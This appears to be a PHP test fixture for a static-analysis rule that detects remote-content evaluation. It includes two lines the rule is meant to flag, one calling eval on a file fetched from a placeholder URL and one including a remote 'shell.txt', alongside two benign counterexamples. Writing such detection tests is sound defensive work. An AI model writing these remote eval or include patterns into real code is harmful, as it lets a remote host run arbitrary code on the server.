<?php
// ruleid: generic-eval-remote-content
eval(file_get_contents('https://cdn.example.invalid/update.txt'));
// ruleid: generic-eval-remote-content
include 'http://example.invalid/shell.txt';
// ok: generic-eval-remote-content
$data = json_decode(file_get_contents('https://api.example.invalid/v1/items'), true);
// ok: generic-eval-remote-content
include __DIR__ . '/config.php';
